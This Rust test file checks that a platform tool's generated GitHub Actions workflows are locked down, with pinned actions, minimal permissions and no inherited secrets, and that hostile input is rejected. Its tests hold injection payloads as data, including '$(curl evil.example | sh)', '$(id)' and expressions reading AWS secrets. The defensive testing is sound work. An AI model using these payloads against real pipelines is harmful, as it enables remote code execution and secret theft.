//! Properties every generated workflow must have, checked on every golden case and example,
//! and the proof that hostile input is rejected or stays inert.
//!
//! Runs the real front end (through `platform-driver`, a dev-dependency only) and this
//! backend alone, then reads the YAML back.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use platform_driver::{Frontend, Inputs};
use platform_ir::{Diagnostic, FileId};
use platform_syntax::yaml::{self, Kind, Node};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap()
}

fn load(root: &Path) -> Frontend {
    platform_driver::load(&Inputs { root: root.to_path_buf(), org: None })
        .unwrap_or_else(|e| panic!("{}: {e}", root.display()))
}

/// This backend's files (by output path; its org packages under `_packages/`) and every
/// diagnostic of the build.
fn build(root: &Path) -> (BTreeMap<String, String>, Vec<Diagnostic>) {
    let fe = load(root);
    let mut diags = fe.diagnostics.clone();
    if fe.has_errors() {
        return (BTreeMap::new(), diags);
    }
    let backends = platform_driver::select(&["github-actions".to_owned()]).unwrap();
    let files = std::sync::Mutex::new(BTreeMap::new());
    let (backend_diags, res) = platform_driver::emit(&fe, &backends, &|p, b| {
        files.lock().unwrap().insert(p.as_str().to_owned(), String::from_utf8(b.to_vec()).unwrap());
        Ok::<(), ()>(())
    });
    res.unwrap();
    diags.extend(backend_diags);
    let (package_diags, res) = platform_driver::emit_packages(&fe, &backends, &|p, b| {
        files.lock().unwrap().insert(format!("_packages/{}", p.as_str()), String::from_utf8(b.to_vec()).unwrap());
        Ok::<(), ()>(())
    });
    res.unwrap();
    diags.extend(package_diags);
    (files.into_inner().unwrap(), diags)
}

fn cases() -> Vec<PathBuf> {
    let mut out = Vec::new();
    for dir in [repo().join("golden-tests/ok"), repo().join("examples")] {
        let mut v: Vec<PathBuf> =
            std::fs::read_dir(&dir).unwrap().flatten().map(|e| e.path()).filter(|p| p.is_dir()).collect();
        v.sort();
        out.extend(v.into_iter().map(|p| if p.join("input").is_dir() { p.join("input") } else { p }));
    }
    out
}

fn get<'a>(n: &'a Node, key: &str) -> Option<&'a Node> {
    match &n.kind {
        Kind::Map(entries) => entries.iter().find(|(k, _)| k.name == key).map(|(_, v)| v),
        _ => None,
    }
}

fn entries(n: &Node) -> Vec<(&str, &Node)> {
    match &n.kind {
        Kind::Map(entries) => entries.iter().map(|(k, v)| (k.name.as_str(), v)).collect(),
        _ => Vec::new(),
    }
}

fn items(n: &Node) -> &[Node] {
    match &n.kind {
        Kind::Seq(items) => items,
        _ => &[],
    }
}

fn text(n: &Node) -> String {
    match &n.kind {
        Kind::Str(s) => s.clone(),
        Kind::Bool(b) => b.to_string(),
        Kind::Int(_, s) | Kind::Float(_, s) => s.clone(),
        _ => String::new(),
    }
}

/// Every `(key, value)` pair below `n`, depth first.
fn walk<'a>(n: &'a Node, out: &mut Vec<(&'a str, &'a Node)>) {
    match &n.kind {
        Kind::Map(entries) => {
            for (k, v) in entries {
                out.push((&k.name, v));
                walk(v, out);
            }
        }
        Kind::Seq(items) => items.iter().for_each(|i| walk(i, out)),
        _ => {}
    }
}

fn is_pinned(uses: &str) -> bool {
    let Some((repo, sha)) = uses.split_once('@') else { return false };
    repo.split('/').count() >= 2
        && sha.len() == 40
        && sha.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
}

#[test]
fn every_workflow_is_locked_down() {
    let mut checked = 0;
    for case in cases() {
        let (files, diags) = build(&case);
        assert!(!diags.iter().any(Diagnostic::is_error), "{}: {diags:#?}", case.display());
        let docs: BTreeMap<&str, Node> = files
            .iter()
            .filter(|(p, _)| p.contains("/github-actions/workflows/") || p.contains("/.github/workflows/"))
            .map(|(p, t)| (p.as_str(), yaml::parse(t, FileId(0)).unwrap_or_else(|d| panic!("{p}: {}", d.message))))
            .collect();
        let reusable: BTreeMap<String, &Node> = docs
            .iter()
            .filter(|(p, _)| p.starts_with("_org/") || p.starts_with("_packages/"))
            .map(|(p, d)| (p.rsplit('/').next().unwrap().to_owned(), d))
            .collect();
        // Six reusable workflows (here or in the org's workflows repository) and the check.
        assert_eq!(reusable.len(), 7, "{}", case.display());
        for (path, doc) in &docs {
            let raw = &files[*path];
            let at = format!("{}: {path}", case.display());
            assert!(raw.lines().any(|l| l == "on:"), "{at}: `on:` must be a plain key");
            assert!(get(doc, "on").is_some() && get(doc, "name").is_some(), "{at}");
            let perms = get(doc, "permissions").unwrap_or_else(|| panic!("{at}: no top-level permissions"));
            assert!(
                entries(perms).is_empty() && matches!(perms.kind, Kind::Map(_)),
                "{at}: top-level permissions must be {{}}"
            );
            let on = get(doc, "on").unwrap();
            for trigger in ["pull_request_target", "workflow_run", "issue_comment"] {
                assert!(get(on, trigger).is_none(), "{at}: dangerous trigger {trigger}");
            }
            // Dispatch inputs (`platform deploy`) are choices only: GitHub refuses any value
            // not listed, so nothing a person types reaches the pipeline (checkov CKV_GHA_7,
            // skipped in the file with that reason).
            if let Some(inputs) = get(on, "workflow_dispatch").and_then(|d| get(d, "inputs")) {
                assert!(raw.contains("checkov:skip=CKV_GHA_7:choices only"), "{at}");
                for (name, input) in entries(inputs) {
                    assert_eq!(get(input, "type").map(text).as_deref(), Some("choice"), "{at}: input {name}");
                    let options: Vec<String> =
                        get(input, "options").map(items).unwrap_or_default().iter().map(text).collect();
                    let default = get(input, "default").map(text).unwrap_or_default();
                    assert!(options.contains(&default), "{at}: input {name}: default {default:?} not in {options:?}");
                }
            }
            for (id, job) in entries(get(doc, "jobs").unwrap()) {
                assert!(get(job, "permissions").is_some(), "{at}: job {id} has no permissions");
                assert!(get(job, "name").is_some(), "{at}: job {id} has no name");
                if let Some(uses) = get(job, "uses") {
                    let target = text(uses);
                    // In this repository by path, or in the org's workflows repository pinned by
                    // commit with the release tag as comment.
                    let file = match target.strip_prefix("./.github/workflows/") {
                        Some(file) => file.to_owned(),
                        None => {
                            assert!(is_pinned(&target), "{at}: `{target}` is not pinned by SHA");
                            assert!(
                                raw.contains(&format!("uses: {target} # v")),
                                "{at}: `{target}` has no version comment"
                            );
                            let (path, _) = target.split_once('@').unwrap();
                            path.split_once("/.github/workflows/")
                                .unwrap_or_else(|| panic!("{at}: {target}"))
                                .1
                                .to_owned()
                        }
                    };
                    let file = file.as_str();
                    let callee = reusable.get(file).unwrap_or_else(|| panic!("{at}: calls unknown {file}"));
                    check_call(&at, id, job, callee);
                }
                // A running deploy is never cancelled: its group alone, or `cancel-in-progress: false`.
                if id.starts_with("deploy-") {
                    let c = get(job, "concurrency").unwrap_or_else(|| panic!("{at}: {id}: no concurrency group"));
                    let cancels = get(c, "cancel-in-progress").map(text);
                    assert!(matches!(cancels.as_deref(), None | Some("false")), "{at}: {id}: {cancels:?}");
                }
                for step in get(job, "steps").map(items).unwrap_or_default() {
                    assert!(get(step, "name").is_some(), "{at}: {id}: unnamed step");
                    if let Some(run) = get(step, "run") {
                        assert!(!text(run).contains("${{"), "{at}: {id}: expression inside run:");
                    }
                    if let Some(uses) = get(step, "uses") {
                        let u = text(uses);
                        assert!(is_pinned(&u), "{at}: {id}: `{u}` is not pinned by SHA");
                        let line = raw.lines().find(|l| l.trim_start().starts_with(&format!("uses: {u}"))).unwrap();
                        assert!(line.contains(&format!("{u} # v")), "{at}: `{line}` has no version comment");
                        if u.starts_with("actions/checkout@") {
                            let with = get(step, "with").unwrap();
                            assert_eq!(text(get(with, "persist-credentials").unwrap()), "false", "{at}");
                        }
                    }
                }
            }
            let mut all = Vec::new();
            walk(doc, &mut all);
            for (k, v) in all {
                assert!(!(k == "secrets" && text(v) == "inherit"), "{at}: secrets: inherit");
            }
            checked += 1;
        }
    }
    assert!(checked > 30, "only {checked} workflows checked");
}

/// A caller passes every required input its reusable workflow declares and no other, in
/// the declared order, only secrets it declares, and grants at least the permissions every
/// job of it asks for.
fn check_call(at: &str, id: &str, job: &Node, callee: &Node) {
    let call = get(get(callee, "on").unwrap(), "workflow_call").unwrap();
    let inputs = get(call, "inputs").map(entries).unwrap_or_default();
    let declared: Vec<&str> = inputs.iter().map(|(k, _)| *k).collect();
    let required: Vec<&str> = inputs
        .iter()
        .filter(|(_, i)| get(i, "required").map(text).as_deref() != Some("false"))
        .map(|(k, _)| *k)
        .collect();
    let passed: Vec<&str> = get(job, "with").map(entries).unwrap_or_default().into_iter().map(|(k, _)| k).collect();
    let in_order: Vec<&str> = declared.iter().copied().filter(|k| passed.contains(k)).collect();
    assert_eq!(in_order, passed, "{at}: {id}: passes inputs the callee does not declare, or out of order");
    for r in required {
        assert!(passed.contains(&r), "{at}: {id}: does not pass the required input {r}");
    }
    let secrets: Vec<&str> =
        get(call, "secrets").map(entries).unwrap_or_default().into_iter().map(|(k, _)| k).collect();
    for (s, _) in get(job, "secrets").map(entries).unwrap_or_default() {
        assert!(secrets.contains(&s), "{at}: {id}: passes undeclared secret {s}");
    }
    let granted: BTreeMap<&str, String> =
        entries(get(job, "permissions").unwrap()).into_iter().map(|(k, v)| (k, text(v))).collect();
    for (cid, cjob) in entries(get(callee, "jobs").unwrap()) {
        for (scope, level) in entries(get(cjob, "permissions").unwrap()) {
            let ok = matches!(
                (granted.get(scope).map(String::as_str), text(level).as_str()),
                (Some("write"), _) | (Some("read"), "read")
            );
            assert!(ok, "{at}: {id} does not grant {scope}: {} that the callee's job {cid} needs", text(level));
        }
    }
}

/// In an org whose registry is ECR, the reusable workflows' jobs ask for what ECR needs
/// (an OIDC token for the image push role). A service whose image lives elsewhere calls the
/// same workflows, so its calls grant what they ask too: GitHub refuses to start a call that
/// grants less. (The golden cases keep every image of an ECR org on ECR.)
#[test]
fn an_image_outside_an_ecr_orgs_registry_still_grants_what_its_calls_ask() {
    let input = repo().join("golden-tests/ok/packaged-ecr/input");
    let org = std::fs::read_to_string(input.join("platform-org.yaml")).unwrap();
    let renderer = std::fs::read_to_string(input.join("services/pdf-renderer/platform.yaml")).unwrap();
    let renderer =
        renderer.replace("  language: python\n", "  language: python\n  image: ghcr.io/vendor/pdf-renderer\n");
    assert!(renderer.contains("image: ghcr.io/"), "{renderer}");
    let s = Scratch::new(
        "ecr-elsewhere",
        &[(".git/HEAD", ""), ("platform-org.yaml", &org), ("services/pdf-renderer/platform.yaml", &renderer)],
    );
    let (files, diags) = build(&s.0);
    assert!(!diags.iter().any(Diagnostic::is_error), "{diags:#?}");
    let parse = |p: &str| yaml::parse(&files[p], FileId(0)).unwrap_or_else(|d| panic!("{p}: {}", d.message));
    let caller = parse("pdf-renderer/github-actions/workflows/pdf-renderer.yml");
    let mut calls = 0;
    for (id, job) in entries(get(&caller, "jobs").unwrap()) {
        let Some(uses) = get(job, "uses") else { continue };
        let file = text(uses).rsplit('/').next().unwrap().to_owned();
        let callee = parse(&format!("_org/github-actions/workflows/{file}"));
        check_call("pdf-renderer", id, job, &callee);
        calls += 1;
    }
    assert!(calls >= 3, "{calls} calls");
}

/// A scratch repository under the system temp directory, removed on drop.
struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str, files: &[(&str, &str)]) -> Self {
        let dir = std::env::temp_dir().join(format!("gha-test-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        for (rel, text) in files {
            let p = dir.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        Scratch(dir)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

const SERVICE: &str = "kind: Service\nmetadata:\n  name: NAME\n  team: shop\n  tier: standard\n  description: DESCRIPTION\nspec:\n  language: go\n  monitoring:\n    slo: 99.9\n";

fn service(name: &str, description: &str) -> String {
    SERVICE.replace("NAME", name).replace("DESCRIPTION", description)
}

fn codes(diags: &[Diagnostic]) -> Vec<&'static str> {
    let mut c: Vec<&str> = diags.iter().filter(|d| d.is_error()).map(|d| d.code.id).collect();
    c.sort();
    c.dedup();
    c
}

#[test]
fn service_paths_with_spaces_or_glob_characters_are_rejected() {
    for dir in
        ["services/pay ment", "services/[ab]pi", "services/a*", "services/a{b,c}", "services/$(id)", "services/a'b"]
    {
        let s = Scratch::new("paths", &[(&format!("{dir}/platform.yaml"), &service("pay-api", "x"))]);
        let (files, diags) = build(&s.0);
        assert_eq!(codes(&diags), ["GHA003"], "{dir}: {diags:#?}");
        let d = diags.iter().find(|d| d.code.id == "GHA003").unwrap();
        assert!(d.message.contains("pay-api"), "{}", d.message);
        drop(files);
    }
}

#[test]
fn hostile_descriptions_never_reach_a_workflow() {
    let hostile = "\"${{ secrets.AWS_SECRET_ACCESS_KEY }}\" $(curl evil.example | sh) `id`; echo pwned";
    let s = Scratch::new(
        "descriptions",
        &[("services/pay-api/platform.yaml", &service("pay-api", &format!("'{}'", hostile.replace('\'', "''"))))],
    );
    let (files, diags) = build(&s.0);
    assert!(!diags.iter().any(Diagnostic::is_error), "{diags:#?}");
    for (p, t) in &files {
        assert!(
            !t.contains("secrets.AWS_SECRET_ACCESS_KEY") && !t.contains("evil.example") && !t.contains("pwned"),
            "{p}"
        );
    }
    assert!(files.keys().any(|p| p == "pay-api/github-actions/workflows/pay-api.yml"));
}

#[test]
fn org_values_that_read_as_expressions_are_rejected() {
    let org = std::fs::read_to_string(repo().join("examples/monorepo/platform-org.yaml")).unwrap();
    let org = org.replace("cluster: acme-production", "cluster: \"prod-${{ secrets.AWS_KEY }}\"");
    let org = org.replace("grafanaUrl: https://grafana.acme.dev", "grafanaUrl: https://grafana.acme.dev/$(id)");
    let s = Scratch::new(
        "org",
        &[("platform-org.yaml", &org), ("services/pay-api/platform.yaml", &service("pay-api", "x"))],
    );
    let (_, diags) = build(&s.0);
    let gha: Vec<&Diagnostic> = diags.iter().filter(|d| d.code.id == "GHA004").collect();
    assert!(gha.len() >= 2, "{diags:#?}");
    assert!(gha.iter().any(|d| d.message.contains("secrets.AWS_KEY")), "{gha:#?}");
}

#[test]
fn workflow_file_names_must_not_collide() {
    let canary = "kind: Service\nmetadata:\n  name: shop\n  team: shop\n  tier: standard\nspec:\n  language: go\n  monitoring:\n    slo: 99.9\n  deployment:\n    canary: true\n";
    let s = Scratch::new(
        "collide",
        &[
            ("services/shop/platform.yaml", canary),
            ("services/shop-promote/platform.yaml", &service("shop-promote", "x")),
            ("services/platform-build/platform.yaml", &service("platform-build", "x")),
        ],
    );
    let (_, diags) = build(&s.0);
    let msgs: Vec<&str> = diags.iter().filter(|d| d.code.id == "GHA005").map(|d| d.message.as_str()).collect();
    // A canary service's promotion is an action of its one workflow: `shop-promote.yml` is free.
    assert_eq!(msgs.len(), 1, "{diags:#?}");
    assert!(msgs[0].contains("platform-build"), "{msgs:?}");
}

/// The value a deploy job of `caller` gives `input`: what it passes, else the default the
/// reusable deploy workflow declares.
fn deploy_input(files: &BTreeMap<String, String>, caller: &str, job: &str, input: &str) -> Option<String> {
    let doc = |p: &str| yaml::parse(&files[p], FileId(0)).unwrap();
    let caller = doc(caller);
    let job = get(get(&caller, "jobs").unwrap(), job).unwrap();
    if let Some(v) = get(job, "with").and_then(|w| get(w, input)) {
        return Some(text(v));
    }
    let callee = doc("_org/github-actions/workflows/platform-deploy.yml");
    let declared = get(get(get(get(&callee, "on").unwrap(), "workflow_call").unwrap(), "inputs").unwrap(), input)?;
    assert_eq!(get(declared, "required").map(text).as_deref(), Some("false"), "{input} is left out but required");
    get(declared, "default").map(text)
}

/// A caller leaves out what the org's deploy workflow defaults to, and each deploy still gets
/// its own value: the org's Grafana, the platform's Helm timeout, and rolling back or not as
/// each service says. A Grafana URL a workflow cannot hold is no default.
#[test]
fn left_out_inputs_default_to_what_the_service_would_pass() {
    let org = std::fs::read_to_string(repo().join("examples/monorepo/platform-org.yaml")).unwrap();
    let manual =
        service("hand-api", "x").replace("    slo: 99.9\n", "    slo: 99.9\n  deployment:\n    rollback: manual\n");
    let s = Scratch::new(
        "defaults",
        &[
            ("platform-org.yaml", &org),
            ("services/auto-api/platform.yaml", &service("auto-api", "x")),
            ("services/hand-api/platform.yaml", &manual),
        ],
    );
    let (files, diags) = build(&s.0);
    assert!(!diags.iter().any(Diagnostic::is_error), "{diags:#?}");
    let at = |svc: &str| format!("{svc}/github-actions/workflows/{svc}.yml");
    let (auto, hand) = (at("auto-api"), at("hand-api"));
    for caller in [&auto, &hand] {
        let job = "deploy-production";
        assert_eq!(deploy_input(&files, caller, job, "grafana-url").as_deref(), Some("https://grafana.acme.dev"));
        assert_eq!(deploy_input(&files, caller, job, "helm-timeout").as_deref(), Some("10m"));
        assert!(!files[caller].contains("grafana-url:"), "{caller} passes the org's Grafana");
    }
    assert_eq!(deploy_input(&files, &auto, "deploy-production", "rollback-on-failure").as_deref(), Some("true"));
    assert_eq!(deploy_input(&files, &hand, "deploy-production", "rollback-on-failure").as_deref(), Some("false"));
    assert!(files[&hand].contains("rollback-on-failure: false"), "{}", files[&hand]);
    // Where the build writes a service's chart and Terraform is where the deploy looks.
    let deploy = &files["_org/github-actions/workflows/platform-deploy.yml"];
    for (var, input, dir) in [
        ("CHART_DIR", "chart-dir", "generated/auto-api/helm/auto-api"),
        ("TERRAFORM_DIR", "terraform-dir", "generated/auto-api/terraform"),
    ] {
        assert_eq!(deploy_input(&files, &auto, "deploy-production", input).as_deref(), Some(""), "{input}");
        let line = deploy.lines().find(|l| l.trim_start().starts_with(&format!("{var}: "))).unwrap();
        let layout = line.split("format('").nth(1).and_then(|f| f.split('\'').next()).unwrap();
        assert_eq!(layout.replace("{0}", "auto-api"), dir, "{line}");
    }

    let bad = org.replace("grafanaUrl: https://grafana.acme.dev", "grafanaUrl: https://grafana.acme.dev/$(id)");
    let s = Scratch::new(
        "no-default",
        &[("platform-org.yaml", &bad), ("services/auto-api/platform.yaml", &service("auto-api", "x"))],
    );
    let (files, _) = build(&s.0);
    let deploy = &files["_org/github-actions/workflows/platform-deploy.yml"];
    assert!(!deploy.contains("$(id)"), "{deploy}");
}
